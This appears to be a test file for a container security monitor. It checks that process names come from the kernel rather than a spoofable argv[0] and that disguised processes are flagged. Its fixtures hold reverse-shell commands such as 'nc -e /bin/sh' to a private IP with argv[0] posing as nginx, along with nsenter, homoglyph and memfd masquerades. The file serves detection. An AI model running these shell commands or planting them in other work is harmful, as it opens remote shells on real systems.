import assert from 'node:assert/strict';
import { spawn, type ChildProcess } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { after, describe, it } from 'node:test';
import { readOwner } from '../../src/collect/connection-procfs';
import { readProc } from '../../src/collect/kernel/procfs';
import { argv0Verdict, processName, processTitle, ruleCommandLine, TITLE_MAX, type ProcView } from '../../src/collect/process-identity';
import { polledProcess, type Proc } from '../../src/collect/processes';

/** What a process looks like at its exec: name, verdict on argv[0], the command line rules see. */
function atExec(p: ProcView) {
  const name = processName(p, 'exec');
  const verdict = argv0Verdict(p.args, name, p.exe);
  return { name, verdict, cmd: ruleCommandLine(p.args, name, p.exe, verdict) };
}

describe('process identity: the kernel names the program, argv[0] does not (review H3)', () => {
  it('exec -a: the name and the command line are the program, argv[0] a masquerade', () => {
    // bash's `exec -a X prog`: execve(path of prog, [X, …]); comm is the path's basename.
    assert.deepEqual(atExec({ args: ['nginx', '-e', '/bin/sh', '10.0.0.5', '4444'], comm: 'nc', exe: '/usr/bin/nc.traditional' }),
      { name: 'nc', verdict: 'masquerade', cmd: 'nc -e /bin/sh 10.0.0.5 4444' });
    assert.deepEqual(atExec({ args: ['sh'], comm: '.x', exe: '/tmp/.x' }), { name: '.x', verdict: 'masquerade', cmd: '/tmp/.x' });
    assert.deepEqual(atExec({ args: ['ns', '-t', '1', '-m', 'sh'], comm: 'nsenter', exe: '/usr/bin/nsenter' }),
      { name: 'nsenter', verdict: 'masquerade', cmd: '/usr/bin/nsenter -t 1 -m sh' });
    assert.deepEqual(atExec({ args: ['[kworker/0:1]', '--config=/etc/x.json'], comm: 'php-fpm', exe: '/app/php-fpm' }),
      { name: 'php-fpm', verdict: 'masquerade', cmd: '/app/php-fpm --config=/etc/x.json' });
    // Cyrillic с: another name altogether.
    assert.equal(atExec({ args: ['nс', '-e', '/bin/sh'], comm: 'nc', exe: '/usr/bin/nc.openbsd' }).verdict, 'masquerade');
    // Fileless: fexecve gives an fd number for comm; the memfd is the file.
    assert.deepEqual(atExec({ args: ['/usr/sbin/nginx'], comm: '3', exe: '/memfd:x (deleted)' }), { name: 'memfd:x', verdict: 'masquerade', cmd: '/memfd:x' });
  });

  it('near misses are not alerts, but the rules still see the program', () => {
    // `exec -a NC nc`: case and a version suffix are variants (uWSGI, php-fpm8.2); the command line is rebuilt all the same.
    assert.deepEqual(atExec({ args: ['NC', '-e', '/bin/sh'], comm: 'nc', exe: '/usr/bin/nc.traditional' }), { name: 'nc', verdict: 'variant', cmd: 'nc -e /bin/sh' });
    assert.deepEqual(atExec({ args: ['chmod2', '+x', '/tmp/x'], comm: 'chmod', exe: '/bin/chmod' }), { name: 'chmod', verdict: 'variant', cmd: '/bin/chmod +x /tmp/x' });
    assert.equal(atExec({ args: ['php-fpm', '-F'], comm: 'php-fpm8.2', exe: '/usr/sbin/php-fpm8.2' }).verdict, 'variant');
  });

  it('benign: symlinks, login shells, busybox applets, scripts, retitles, long names', () => {
    const benign: Array<[string, ProcView, string]> = [
      ['symlink (alternatives)', { args: ['nc', '-zv', 'db', '5432'], comm: 'nc', exe: '/usr/bin/nc.openbsd' }, 'nc'],
      ['python3 → python3.11', { args: ['python3', 'app.py'], comm: 'python3', exe: '/usr/bin/python3.11' }, 'python3'],
      ['sh → dash by path', { args: ['/bin/sh', '-c', 'true'], comm: 'sh', exe: '/usr/bin/dash' }, 'sh'],
      ['argv[0] is the file itself', { args: ['/usr/bin/nc.traditional', '-l'], comm: 'nc', exe: '/usr/bin/nc.traditional' }, 'nc'],
      ['login shell', { args: ['-bash'], comm: 'bash', exe: '/usr/bin/bash' }, 'bash'],
      ['su\'s login shell', { args: ['-su'], comm: 'bash', exe: '/usr/bin/bash' }, 'bash'],
      ['busybox applet by symlink', { args: ['wget', '-q', 'http://x'], comm: 'wget', exe: '/bin/busybox' }, 'wget'],
      ['busybox re-exec through /proc/self/exe', { args: ['cat', '/etc/hosts'], comm: 'exe', exe: '/bin/busybox' }, 'cat'],
      ['busybox called by its name', { args: ['busybox', 'nc', '10.0.0.5', '4444', '-e', '/bin/sh'], comm: 'busybox', exe: '/bin/busybox' }, 'nc'],
      ['ash login shell', { args: ['-sh'], comm: 'sh', exe: '/bin/busybox' }, 'sh'],
      ['script (#!/bin/sh)', { args: ['/bin/sh', '/docker-entrypoint.sh', 'nginx'], comm: 'docker-entrypoi', exe: '/usr/bin/dash' }, 'docker-entrypoint.sh'],
      ['script (#!/usr/bin/env python3)', { args: ['/usr/bin/env', 'python3', './manage.py'], comm: 'manage.py', exe: '/usr/bin/env' }, 'manage.py'],
      ['an entrypoint handing over, read late', { args: ['/bin/sh', '/usr/local/bin/docker-entrypoint.sh', 'gosu', 'redis', 'redis-server', '--appendonly', 'yes'], comm: 'redis-server', exe: '/usr/local/bin/redis-server' }, 'redis-server'],
      ['script with a #! argument', { args: ['/usr/bin/env', '-S python3 -u', '/app/run'], comm: 'run', exe: '/usr/bin/env' }, 'run'],
      ['retitled at exec already', { args: ['nginx: master process nginx -g daemon off;'], comm: 'nginx', exe: '/usr/sbin/nginx' }, 'nginx'],
      ['comm cut at 15', { args: ['/usr/local/bin/prometheus-node-exporter'], comm: 'prometheus-node', exe: '/usr/local/bin/prometheus-node-exporter' }, 'prometheus-node-exporter'],
      ['trailing blank in argv[0]', { args: ['nc ', '-l'], comm: 'nc', exe: '/usr/bin/nc.traditional' }, 'nc'],
    ];
    for (const [what, p, name] of benign) {
      const r = atExec(p);
      assert.deepEqual([r.name, r.verdict, r.cmd], [name, undefined, p.args!.join(' ')], what);
    }
  });

  it('runc entering a container (its stages renamed by prctl, its cloned binary\'s exe "/") is no masquerade; a look-alike is', () => {
    for (const stage of ['runc:[0:PARENT]', 'runc:[1:CHILD]', 'runc:[2:INIT]']) assert.equal(atExec({ args: ['runc', 'init'], comm: stage, exe: '/' }).verdict, undefined, stage);
    assert.equal(atExec({ args: ['runc', 'init', '-e', '/bin/sh'], comm: 'runc:[0:PARENT]', exe: '/' }).verdict, 'masquerade', 'more than runc init');
    assert.equal(atExec({ args: ['runc', 'init'], comm: 'nc', exe: '/usr/bin/nc.traditional' }).verdict, 'masquerade', 'another program calling itself runc');
  });

  it('a later read distrusts a comm the process rewrote (row 19: echo -n nginx > /proc/$$/comm)', () => {
    const p = { args: ['bash'], comm: 'nginx', exe: '/usr/bin/bash' };
    assert.equal(processName(p, 'exec'), 'nginx', 'at the exec, comm is the kernel\'s');
    assert.equal(processName(p, 'running'), 'bash');
    // A retitled service keeps its name: comm still matches the title, the file or the script.
    assert.equal(processName({ args: ['puma 6.4.0 (tcp://0.0.0.0:3000) [app]'], comm: 'puma', exe: '/usr/local/bin/ruby' }, 'running'), 'puma');
    assert.equal(processName({ args: ['postgres: checkpointer '], comm: 'postgres', exe: '/usr/lib/postgresql/16/bin/postgres' }, 'running'), 'postgres');
    assert.equal(processName({ args: ['python3', 'x.py'], comm: 'python3', exe: '/usr/local/bin/python3.12' }, 'running'), 'python3');
  });

  it('no comm: the file names it, and argv[0] only when nothing else does', () => {
    assert.equal(processName({ args: ['nginx'], exe: '/usr/bin/nc.traditional' }, 'exec'), 'nc.traditional');
    assert.equal(processName({ args: ['/usr/bin/nginx'] }, 'exec'), 'nginx');
    assert.equal(processName({}, 'exec'), undefined);
    // A fake busybox outside the system directories does not get argv[0]'s word.
    assert.equal(processName({ args: ['nginx', '-e', '/bin/sh'], comm: 'busybox', exe: '/tmp/busybox' }, 'exec'), 'busybox');
  });

  it('process.title is argv[0], bounded', () => {
    assert.equal(processTitle(['-bash']), '-bash');
    assert.equal(processTitle(['x'.repeat(70_000)])!.length, TITLE_MAX);
    assert.equal(processTitle(undefined), undefined);
  });
});

describe('process identity on this machine\'s /proc', () => {
  const children: ChildProcess[] = [];
  after(() => {
    for (const c of children) c.kill('SIGKILL');
  });
  /** Starts a bash command and waits until /proc shows `until` in the process's cmdline or comm. */
  async function started(script: string, until: (pid: number) => boolean): Promise<number> {
    const c = spawn('bash', ['-c', script], { stdio: ['pipe', 'ignore', 'ignore'] });
    children.push(c);
    const end = Date.now() + 5000;
    for (;;) {
      try {
        if (until(c.pid!)) return c.pid!;
      } catch {
        /* not there yet */
      }
      if (Date.now() > end) throw new Error(`${script}: not seen in /proc`);
      await new Promise((r) => setTimeout(r, 20));
    }
  }
  const cmdline = (pid: number) => readFileSync(`/proc/${pid}/cmdline`, 'latin1');
  const comm = (pid: number) => readFileSync(`/proc/${pid}/comm`, 'latin1').trim();

  it('exec -a nginx sleep: the kernel still says sleep (comm, exe); argv[0] is a masquerade', async () => {
    const pid = await started('exec -a nginx sleep 30', (p) => cmdline(p).startsWith('nginx\0'));
    const info = readProc(pid, undefined);
    assert.equal(info.comm, 'sleep');
    const name = processName(info, 'exec');
    assert.equal(name, 'sleep');
    assert.equal(argv0Verdict(info.args, name, info.exe), 'masquerade');
    // The connections collector names the owner the same way.
    assert.equal(readOwner(pid, undefined, undefined)?.name, 'sleep');
  });

  it('a shell that renames itself (row 19) is still bash to the connections collector', async () => {
    const pid = await started('echo -n nginx > /proc/$$/comm; read x', (p) => comm(p) === 'nginx');
    const o = readOwner(pid, undefined, undefined);
    assert.equal(o?.name, 'bash', 'before: comm, "nginx"');
    assert.match(o!.executable!, /\/bash$/);
  });
});

describe('polling: name from comm, executable never from argv[0]', () => {
  const proc = (over: Partial<Proc>): Proc => ({ pid: 20, ppid: 1, uid: '0', user: 'root', args: 'sh', start: 0, exact: true, ...over });
  const shell = proc({ pid: 1, ppid: 0, args: '/bin/sh /entry.sh', comm: 'entry.sh', exe: '/usr/bin/dash' });

  it('exec -a nginx nc: name nc, command line from the program, mismatch flagged', () => {
    const p = proc({ args: 'nginx -e /bin/sh 10.0.0.5 4444', comm: 'nc', exe: '/usr/bin/nc.traditional' });
    const { process, dockward } = polledProcess(p, shell, false);
    assert.equal(process.name, 'nc');
    assert.equal(process.title, 'nginx');
    assert.equal(process.executable, '/usr/bin/nc.traditional');
    assert.equal(process.command_line, 'nc -e /bin/sh 10.0.0.5 4444');
    assert.deepEqual(process.args, ['nginx', '-e', '/bin/sh', '10.0.0.5', '4444']);
    assert.deepEqual(dockward, { argv0_mismatch: true });
    assert.equal(process.parent.name, 'entry.sh');
  });

  it('without the host\'s /proc: comm still names it, and argv[0] is no executable', () => {
    const p = proc({ args: '/usr/sbin/nginx -g daemon', comm: 'nc', exe: undefined });
    const { process, dockward } = polledProcess(p, shell, false);
    assert.equal(process.name, 'nc');
    assert.equal(process.executable, undefined, 'before: /usr/sbin/nginx');
    assert.equal(process.command_line, 'nc -g daemon');
    assert.deepEqual(dockward, { argv0_mismatch: true });
  });

  it('not judged: a first snapshot, or a fork that retitled itself (same program as its parent)', () => {
    const master = proc({ pid: 30, args: 'puma 6.4.0 (tcp://0.0.0.0:3000) [app]', comm: 'ruby', exe: '/usr/local/bin/ruby' });
    const worker = proc({ pid: 31, ppid: 30, args: 'puma: cluster worker 0: 30 [app]', comm: 'ruby', exe: '/usr/local/bin/ruby' });
    assert.deepEqual(polledProcess(worker, master, false).dockward, {});
    assert.equal(polledProcess(worker, master, false).process.command_line, worker.args);
    const spoof = proc({ args: 'nginx -e /bin/sh', comm: 'nc', exe: '/usr/bin/nc.traditional' });
    assert.deepEqual(polledProcess(spoof, shell, true).dockward, {});
    assert.equal(polledProcess(spoof, shell, true).process.name, 'nc', 'the name holds in a first snapshot too');
  });
});
